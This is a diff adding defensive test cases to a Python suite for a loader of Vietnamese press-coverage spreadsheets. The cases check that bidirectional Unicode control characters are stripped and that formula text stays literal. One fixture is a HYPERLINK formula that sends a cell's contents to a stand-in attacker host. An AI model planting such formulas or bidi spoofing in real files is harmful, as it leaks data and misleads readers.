@@ -861,6 +861,37 @@ def _(inbox):
     write_xlsx(inbox / "payments" / "ct.xlsx", rows, sheet="Chi")
 
 
+BIDI_TITLE = "Hải Phòng \u202etrao giải\u202c báo chí \u2066năm 2025\u2069\u200f"
+BIDI_REMOVED = holding(
+    "coverage", "title, agency", ("Hải Phòng trao giải báo chí năm 2025", "Báo Hải Phòng")
+)
+
+
+@case("bidi-controls-removed-csv", "coverage", Loaded(1, check=BIDI_REMOVED))
+def _(inbox):
+    row = coverage(tieu_de=BIDI_TITLE, co_quan_bao_chi="\u202bBáo Hải Phòng\u200e")
+    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, row])
+
+
+@case("bidi-controls-removed-xlsx", "coverage", Loaded(1, check=BIDI_REMOVED))
+def _(inbox):
+    row = coverage(tieu_de=BIDI_TITLE, co_quan_bao_chi="\u202dBáo Hải Phòng\u202c")
+    write_xlsx(inbox / "coverage" / "tin.xlsx", [COVERAGE_HEADER, row])
+
+
+FORMULA_TEXT = '=HYPERLINK("https://evil.example/?q="&A1,"Bấm vào đây")'
+
+
+@case(
+    "formula-text-stays-text",
+    "coverage",
+    Loaded(1, check=holding("coverage", "title, summary", (FORMULA_TEXT, "@SUM(1+1)"))),
+)
+def _(inbox):
+    row = coverage(tieu_de=FORMULA_TEXT, tom_tat="@SUM(1+1)")
+    write_csv(inbox / "coverage" / "tin.csv", [COVERAGE_HEADER, row])
+
+
 def test_the_corpus_is_large_and_covers_every_outcome():
     assert len(CASES) >= 30
     assert len({c.name for c in CASES}) == len(CASES)
